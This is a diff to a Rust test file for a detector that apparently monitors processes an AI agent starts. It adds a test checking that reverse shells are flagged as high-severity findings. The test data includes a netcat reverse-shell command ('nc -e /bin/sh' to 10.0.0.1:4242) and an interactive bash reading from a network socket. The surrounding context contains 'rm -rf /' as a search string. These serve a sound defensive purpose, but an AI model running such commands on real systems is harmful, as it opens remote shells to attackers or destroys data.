@@ -4,9 +4,11 @@
 mod common;
 
 use agentsight_formats::record::direction::{RECEIVED, SENT};
+use agentsight_formats::record::{StdioData, kind, stdio_type};
 use common::run::{AGENT, Run};
 use common::*;
 use serde_json::{Value, json};
+use zerocopy::FromZeros;
 
 /// Rule, severity and subject of each finding.
 fn findings(seen: &Collected) -> Vec<(&str, &str, &str)> {
@@ -69,6 +71,40 @@ fn text_that_names_a_command_is_no_finding() {
     run.start(20, 21, &["grep", "-r", "rm -rf /", "."]);
     run.answer(&["a", "b", "c"]);
     assert_eq!(findings(&run.rows()), []);
+}
+
+/// A process reads from its standard input, which is a connection of the network, or a pipe.
+fn reads_commands(run: &mut Run, tgid: u32, object_type: u16) {
+    let time = run.time();
+    let fixed = StdioData {
+        header: header(kind::STDIO_DATA, time, tgid),
+        object: 7.into(),
+        len: 3.into(),
+        captured: 3.into(),
+        direction: RECEIVED.into(),
+        object_type: object_type.into(),
+        ..StdioData::new_zeroed()
+    };
+    run.script.records.push(bytes(&fixed, &[b"id\n"]));
+}
+
+#[test]
+fn a_shell_that_takes_commands_from_the_network_is_told_whatever_made_it_so() {
+    let mut run = Run::new();
+    run.start(AGENT, 20, &["bash", "-i"]);
+    run.start(AGENT, 21, &["sh"]);
+    run.start(AGENT, 22, &["sh", "handler.sh"]);
+    run.start(AGENT, 23, &["nc", "-e", "/bin/sh", "10.0.0.1", "4242"]);
+    run.exec(23, &["/bin/sh"]);
+    run.start(AGENT, 24, &["cat"]);
+    reads_commands(&mut run, 20, stdio_type::NETWORK_SOCKET);
+    reads_commands(&mut run, 20, stdio_type::NETWORK_SOCKET);
+    reads_commands(&mut run, 21, stdio_type::PIPE);
+    [22, 23, 24].iter().for_each(|tgid| reads_commands(&mut run, *tgid, stdio_type::NETWORK_SOCKET));
+    let seen = run.rows();
+    let expected = [("command/reverse-shell", "high", "exec"), ("command/reverse-shell", "high", "process")];
+    assert_eq!(findings(&seen), expected);
+    assert_eq!(seen.cells("findings", &["subject_key", "evidence"])[1], ["2", "bash -i"]);
 }
 
 // ---- credentials ----
